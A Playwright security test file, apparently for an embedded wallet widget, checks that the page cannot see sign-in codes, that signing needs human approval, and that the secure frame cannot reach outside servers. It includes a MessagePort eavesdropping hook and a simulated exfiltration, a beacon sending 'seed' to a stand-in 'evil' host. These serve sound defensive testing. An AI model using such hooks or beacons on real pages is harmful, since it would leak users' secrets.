import { parseEther } from 'viem'
import { payWei } from '../../world/history/people.ts'
import { outcomeOf, stateOf } from '../fixtures/actions.ts'
import {
  askToSignIn,
  checkApproval,
  codeFor,
  enterEmail,
  fillIn,
  newAddress,
  openRecoveryOffer,
  secureFrameOf,
  sendCode,
  signedIn,
  signInByEmail,
  signInMessage,
} from '../fixtures/embedded.ts'
import { expect, test } from '../fixtures/test.ts'

/* What a page, or whoever is in it, must not get from the embedded wallet (security.md §5). */

test('threat 10 behavior: while a person signs in, the page sees neither the address nor the code', async ({
  page,
  modal,
  world,
  openKit,
}) => {
  await page.addInitScript(() => {
    if (window !== window.top) return
    const heard: unknown[] = []
    Object.assign(window, { heard })
    window.addEventListener('message', ({ data }) => heard.push(data), true)
    const { set } = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage') ?? {}
    const listen = MessagePort.prototype.addEventListener
    const send = MessagePort.prototype.postMessage
    Object.defineProperty(MessagePort.prototype, 'onmessage', {
      set(this: MessagePort, handler: (event: MessageEvent) => void) {
        listen.call(this, 'message', (event) => heard.push((event as MessageEvent).data))
        set?.call(this, handler)
      },
    })
    MessagePort.prototype.addEventListener = function (this: MessagePort, ...parts: [string, never]) {
      listen.call(this, 'message', (event) => heard.push((event as MessageEvent).data))
      return listen.apply(this, parts)
    } as typeof listen
    MessagePort.prototype.postMessage = function (this: MessagePort, ...parts: [unknown]) {
      heard.push(parts[0])
      return send.apply(this, parts)
    } as typeof send
  })
  const email = newAddress('secret')
  const seen = async () =>
    page.evaluate(() =>
      [
        document.documentElement.outerHTML,
        JSON.stringify(Reflect.get(window, 'heard')),
        JSON.stringify({ ...localStorage }),
        JSON.stringify({ ...sessionStorage }),
        document.cookie,
        ...performance.getEntriesByType('resource').map(({ name }) => name),
      ].join('\n'),
    )
  await openKit()
  await sendCode({ page, modal }, email)
  const code = await codeFor(world, email)
  await modal.getByRole('textbox', { name: 'Code from the email' }).pressSequentially(code.slice(0, 5))
  const before = await seen()
  // The port is heard: it carries the widget's state.
  expect(before).toContain('"seq":')
  expect(before).not.toContain(email)
  expect(before).not.toContain(email.split('@')[0])
  await page.keyboard.type(code.slice(5))
  await signedIn({ page })
  const after = await seen()
  // Connected, the page knows the address: it is the account's `user.email`.
  expect(after).not.toContain(`"${code}"`)
})

test('threat 9 behavior: a page that asks by itself opens no window and gets nothing; the request waits for the person', async ({
  page,
  modal,
  world,
  openKit,
}) => {
  await openKit()
  await signInByEmail({ page, modal, world }, newAddress('timer'))
  const address = (await stateOf(page)).accounts.eip155?.address
  await page.reload()
  await page.waitForFunction(() => 'version' in window.walletKit)
  await page.evaluate(() => window.walletKit.ready)
  await page.evaluate(
    (params) => {
      setTimeout(() => {
        const asked = window.walletKit.getProvider('eip155').request({ method: 'personal_sign', params })
        asked.then(
          (value) => Object.assign(window, { outcome: { value } }),
          (error) => Object.assign(window, { outcome: { code: error.code } }),
        )
      }, 0)
    },
    [signInMessage(page, address ?? ''), address],
  )
  const frame = secureFrameOf(modal)
  await expect(frame.getByRole('button', { name: 'Sign', exact: true })).toBeEnabled()
  expect(page.context().pages()).toHaveLength(1)
  expect(await page.evaluate(() => Reflect.get(window, 'outcome'))).toBeUndefined()
  await frame.getByRole('button', { name: 'Reject' }).press('Enter')
  await expect.poll(() => page.evaluate(() => Reflect.get(window, 'outcome'))).toEqual({ code: 4001 })
})

test('threat 4 R51 behavior: on a page that the project does not name, money moves only by a window of the wallet’s own, whose address the browser shows', async ({
  page,
  modal,
  world,
  kitPage,
}) => {
  // `localhost` itself is a development host, and none of the project's.
  const url = new URL(kitPage())
  url.hostname = 'localhost'
  await page.goto(url.href)
  await page.waitForFunction(() => 'version' in window.walletKit)
  await signInByEmail({ page, modal, world }, newAddress('window'))
  const frame = secureFrameOf(modal)
  const from = (await stateOf(page)).accounts.eip155?.address ?? ''
  await payWei(world.chains[0]?.rpcUrl ?? '', from, parseEther('2'))
  const opening = page.context().waitForEvent('page')
  const sending = outcomeOf(
    page,
    (account) =>
      window.walletKit.getProvider('eip155').request({
        method: 'eth_sendTransaction',
        params: [{ from: account, to: '0x00000000000000000000000000000000000000aa', value: '0x1' }],
      }),
    from,
  )
  await expect(frame.getByText('Unverified')).toBeVisible()
  await expect(frame.getByRole('button', { name: /^Approve/ })).toHaveCount(0)
  const approval = await opening
  await expect(approval.getByText('Unverified')).toBeVisible()
  expect(new URL(approval.url()).origin).toBe(world.secure)
  const approve = await checkApproval(approval)
  await approve.click()
  expect(await sending).toMatchObject({ value: expect.stringMatching(/^0x[0-9a-f]{64}$/) })
})

test('threat 22 rejects: a call to another server, or a script of another, from the secure frame', async ({
  page,
  modal,
  world,
  openKit,
  hosts,
}) => {
  await openKit()
  await sendCode({ page, modal }, newAddress('planted'))
  const asked: string[] = []
  page.on('request', (request) => asked.push(request.url()))
  const elsewhere = hosts.serve({
    html: 'got you',
    headers: { 'Access-Control-Allow-Origin': '*' },
    site: 'evil',
  })
  const frame = page.frames().find((each) => each.url().startsWith(world.secure))
  const outcome = await frame?.evaluate(async (url) => {
    const fetched = await fetch(url).then(
      () => 'fetched',
      () => 'refused',
    )
    const image = new Image()
    const shown = await new Promise((done) => {
      image.onload = () => done('shown')
      image.onerror = () => done('refused')
      image.src = url
    })
    const beacon = await new Promise((done) => {
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => done(effectiveDirective), {
        once: true,
      })
      navigator.sendBeacon(url, 'seed')
      setTimeout(() => done('sent'), 2_000)
    })
    return { fetched, shown, beacon }
  }, elsewhere)
  expect(outcome).toEqual({ fetched: 'refused', shown: 'refused', beacon: 'connect-src' })
})

test('threat 29 R48 behavior: on a cross-origin isolated page a person signs in and signs', async ({
  page,
  modal,
  world,
  openKit,
}) => {
  await openKit({
    headers: {
      'Cross-Origin-Opener-Policy': 'same-origin',
      'Cross-Origin-Embedder-Policy': 'require-corp',
    },
  })
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true)
  await signInByEmail({ page, modal, world }, newAddress('isolated'))
  const address = (await stateOf(page)).accounts.eip155?.address
  const signing = askToSignIn(page, address)
  const sign = secureFrameOf(modal).getByRole('button', { name: 'Sign', exact: true })
  await expect(sign).toBeEnabled()
  await sign.press('Enter')
  expect(await signing).toMatchObject({ value: expect.stringMatching(/^0x[0-9a-f]{130}$/) })
})

test('threat 30 behavior: a browser without WebAuthn offers the code, and says why no passkey', async ({
  page,
  modal,
  world,
  openKit,
}) => {
  await page.addInitScript(() => Reflect.deleteProperty(window, 'PublicKeyCredential'))
  const frame = secureFrameOf(modal)
  await openKit()
  await enterEmail({ page, modal, world }, newAddress('nokey'))
  await openRecoveryOffer({ page, modal })
  await expect(frame.getByText('Passkeys don’t work here in this browser. Use the code.')).toBeVisible()
  await expect(frame.getByRole('button', { name: 'Use a passkey' })).toHaveCount(0)
  await expect(frame.getByRole('button', { name: 'Write down a recovery code' })).toBeVisible()
})

test('R45 R56 behavior: fields that a password manager fills in, without a key, and draws its own marks into', async ({
  page,
  modal,
  world,
  openKit,
}) => {
  const email = newAddress('manager')
  await openKit()
  await page.getByRole('button', { name: 'Connect wallet' }).click()
  const field = modal.getByRole('textbox', { name: 'Email address' })
  expect(await field.getAttribute('autocomplete')).toBe('email')
  await field.evaluate(fillIn, email)
  await field.press('Enter')
  const code = modal.getByRole('textbox', { name: 'Code from the email' })
  await expect(code).toBeVisible()
  expect(await code.getAttribute('autocomplete')).toBe('one-time-code')
  await code.evaluate(fillIn, await codeFor(world, email))
  await signedIn({ page })
})
